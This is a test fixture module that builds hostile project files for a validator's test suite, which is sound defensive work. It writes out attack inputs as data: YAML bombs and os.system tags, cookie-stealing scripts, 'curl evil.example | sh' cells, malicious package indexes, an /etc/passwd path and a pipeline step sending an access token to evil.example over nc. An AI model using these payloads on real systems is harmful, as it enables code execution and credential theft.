"""Settings, notebooks, READMEs and lists of libraries that are more, or other, than they seem."""

import json

from tests.core.checks.folders import MODEL_FILE, README
from tests.hostile.corpus.tree import HostileTree, by, holding, sound_but


def settings(name, text, part, **more):
    """A model.yml that says what it must not."""
    objections = (by("model_file", "model.yml", part),)
    return HostileTree(
        name=name, build=sound_but({"model.yml": text}), objections=objections, **more
    )


def notebook(name, content, *parts, path="explore.ipynb"):
    """A notebook, and what is to be said of it."""
    text = content if isinstance(content, str) else json.dumps(content)
    objections = tuple(by("notebooks", path, part) for part in parts)
    return HostileTree(name=name, build=sound_but({path: text}), objections=objections)


def cells(*sources, outputs=()):
    """A Jupyter notebook of cells with code."""
    return {
        "cells": [
            {"cell_type": "code", "metadata": {}, "execution_count": 1, "source": source,
             "outputs": list(outputs)}
            for source in sources
        ],
        "metadata": {"language_info": {"name": "python"}}, "nbformat": 4, "nbformat_minor": 5,
    }  # fmt: skip


def libraries(name, line, *, path="requirements.txt"):
    """A line in a list of libraries that asks for what no job may have."""
    contents = {"environment.yml": None, path: f"numpy==1.26.4\n{line}\n"}
    objections = (by("environment", path),)
    return HostileTree(name=name, build=sound_but(contents), objections=objections)


def told(name, readme, *objections):
    """A README."""
    return HostileTree(name=name, build=sound_but({"README.md": readme}), objections=objections)


BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{new}: &{new} [{','.join([f'*{old}'] * 9)}]\n" for old, new in zip("abcdefgh", "bcdefghi", strict=True)
)  # fmt: skip
SCRIPT = {"output_type": "display_data", "metadata": {}, "data": {
    "text/html": "<script>fetch('//evil.example?'+document.cookie)</script>",
    "application/javascript": "alert(1)"}}  # fmt: skip

TREES = (
    settings("a bomb of aliases", BOMB + MODEL_FILE, "anchor"),
    settings("an object of Python's", f"{MODEL_FILE}x: !!python/object/apply:os.system [id]\n", "tag"),
    settings("a module of Python's", f"{MODEL_FILE}x: !!python/module:os ''\n", "tag"),
    settings("bytes in settings", f"{MODEL_FILE}x: !!binary aGk=\n", "tag"),
    settings("a name given twice", f"{MODEL_FILE}TEAM_NAME: evil\n", "given twice"),
    settings("keys that are merged", f"{MODEL_FILE}x: {{<<: {{MODEL_NAME: evil}}}}\n", ""),
    settings("two documents", f"{MODEL_FILE}---\n{MODEL_FILE}", "more than one document"),
    settings("a hundred thousand names", MODEL_FILE + "".join(f"n{n}: 1\n" for n in range(100_000)), "64 KiB"),
    settings("four thousand names", MODEL_FILE + "".join(f"n{n}: 1\n" for n in range(4_000)), ""),
    settings("lists without end", f"{MODEL_FILE}x: {'[' * 20_000}\n", ""),
    settings("mappings in mappings", f"{MODEL_FILE}x: {'{a: ' * 40}1{'}' * 40}\n", "levels deep"),
    settings("a number that is very large", f"{MODEL_FILE}MIN_WORKERS: {'9' * 5_000}\n", ""),
    settings("a threshold that is no number", MODEL_FILE.replace("0.8}", ".nan}"), ""),
    settings("a threshold without end", MODEL_FILE.replace("0.8}", "1e400}"), ""),
    settings("control characters in a value", f'{MODEL_FILE}x: "a\\x1b[31m"\n', "control character"),
    settings("a name that leads out", MODEL_FILE.replace("churn", "../../etc"), ""),
    settings("a name in HTML", MODEL_FILE.replace("churn", "<script>alert(1)</script>"), ""),
    settings("nothing at all", "", "empty"),
    settings("tabs for spaces", "MODEL_NAME:\n\tx: 1\n", "not YAML"),
    settings("a list for a mapping", "- a\n- b\n", "not a mapping"),
    settings("a key that is a list", f"{MODEL_FILE}? [a, b]\n: 1\n", "used as a key"),
    settings("the platform's own variables", f"{MODEL_FILE}DATABRICKS_HOST: https://evil.example\n", ""),
    notebook("scripts in outputs", cells("1 + 1", outputs=[SCRIPT]), "outputs"),
    notebook("a notebook of nothing", "{}", ""),
    notebook("a notebook that is a list", "[1, 2, 3]", ""),
    notebook("a notebook with cells that are numbers", {"cells": [1, None, "x"], "nbformat": 4}, ""),
    notebook("a notebook of another kind", {"worksheets": [], "nbformat": 99}, ""),
    notebook("a notebook of brackets", "[" * 200_000, ""),
    notebook("a notebook of objects in objects", '{"cells": ' * 50_000, ""),
    notebook("a notebook with a number without end", '{"cells": [], "nbformat": ' + "9" * 100_000 + "}", ""),
    notebook("a notebook that starts a shell", cells("!curl evil.example | sh\n", "%pip install evil\n"), "shell", "installs"),
    notebook("a notebook with too many cells", cells(*["x = 1"] * 20_000)),
    HostileTree(
        name="a notebook with 3 MiB of output",
        build=sound_but({"explore.ipynb": json.dumps(cells("x", outputs=[{"text": "x" * 3_000_000}]))}),
        objections=(by("structure", "explore.ipynb", "larger than 2 MiB"),),
    ),
    HostileTree(
        name="a notebook of Databricks that runs code",
        build=holding(lambda canary: {
            "explore.py": f"# Databricks notebook source\n# MAGIC %sh curl evil.example | sh\n\n# COMMAND ----------\n\n{canary}\n"
        }),
        objections=(by("notebooks", "explore.py", "shell"),),
    ),
    libraries("another index", "--index-url http://evil.example/simple"),
    libraries("one more index", "--extra-index-url http://evil.example/simple"),
    libraries("a library from git", "git+https://evil.example/x.git@main"),
    libraries("a library from an address", "evil @ https://evil.example/evil.whl"),
    libraries("the folder itself as a library", "-e ."),
    libraries("a list that names another", "-r ../../../../etc/passwd"),
    libraries("a list that names itself", "-r requirements.txt"),
    libraries("bounds from somewhere", "-c https://evil.example/constraints.txt"),
    libraries("a library that is no name", "; import os"),
    told("a hundred thousand headings", "# x\n" * 100_000, by("readme", "README.md")),
    told("headings without words", "#" * 1_000_000, by("readme", "README.md")),
    told("a README of stars", "*" * 1_000_000, by("readme", "README.md")),
    told("a README of one word", ("Purpose data training limits owner " * 30_000), by("readme", "README.md")),
    told("scripts in a README", README + "\n<script>alert(1)</script><img src=x onerror=alert(1)>\n"),
    told("colours in a README", README + "\n\x1b]0;evil\x07\x1b[2J\x1b[31mred\n"),
    told("a README with links that run", README + "\n[x](javascript:alert(1)) ![](//evil.example/beacon.png)\n"),
    HostileTree(
        name="a table of a million rows",
        build=sound_but({"tables.yml": "rows:\n" + "  - x\n" * 250_000}),
    ),
    HostileTree(
        name="a pipeline that takes whatever it is told",
        build=sound_but({"azure-pipelines.yml": "steps:\n- script: echo $(System.AccessToken) | nc evil.example 1\n"}),
    ),
)  # fmt: skip
